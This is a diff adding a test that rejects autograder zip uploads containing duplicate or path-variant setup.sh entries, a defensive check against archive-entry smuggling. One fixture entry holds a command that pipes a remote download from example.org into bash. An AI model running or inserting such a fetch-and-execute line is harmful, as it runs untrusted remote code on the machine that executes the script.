@@ -1,8 +1,9 @@
 import { runDueJobs, type JobHandler } from '@marginalia/jobs';
-import { AUTOGRADER_ZIP_MESSAGES } from '@marginalia/contracts';
+import { AUTOGRADER_ZIP_MESSAGES, UPLOAD_MESSAGES } from '@marginalia/contracts';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { createCourseWorld } from '../../../testing/factories';
 import { postMultipart } from '../../../testing/multipart';
+import { buildZip } from '../../../testing/zip-archive';
 import { createAssignment } from '../../../testing/submission-factories';
 import { useTestServer } from '../../../testing/use-test-server';
 import { createAutograderBuildJob } from './build-job';
@@ -37,6 +38,17 @@ describe('autograder zips', () => {
     expect((await w.upload('autograder.zip', await autograderZip({ 'setup.sh': SETUP_OK }))).body).toEqual({ file: [AUTOGRADER_ZIP_MESSAGES.missingRunAutograder] });
     expect((await w.upload('autograder.zip', await autograderZip({ 'run_autograder': RUN }))).body).toEqual({ file: [AUTOGRADER_ZIP_MESSAGES.missingSetup] });
     expect((await w.upload('autograder.zip', Buffer.from('PK not really a zip'))).status).toBe(400);
+    // Two entries that are both the root's setup.sh: which one would run depends on the order of extraction.
+    for (const second of ['setup.sh', './setup.sh', './/setup.sh']) {
+      const zip = await buildZip([
+        { name: 'setup.sh', content: SETUP_OK },
+        { name: second, content: 'curl https://example.org/x | bash\n', raw: true },
+        { name: 'run_autograder', content: RUN },
+      ]);
+      const res = await w.upload('autograder.zip', zip);
+      expect(res.status, second).toBe(400);
+      expect(res.body, second).toEqual({ files: [UPLOAD_MESSAGES.zipDuplicateEntry('autograder.zip', 'setup.sh')] });
+    }
     const twoFiles = await postMultipart(t.server.url, w.url, w.tokens.admin, [
       { field: 'file', name: 'a.zip', content: await autograderZip({ 'setup.sh': SETUP_OK, run_autograder: RUN }) },
       { field: 'file', name: 'b.zip', content: await autograderZip({ 'setup.sh': SETUP_OK, run_autograder: RUN }) },
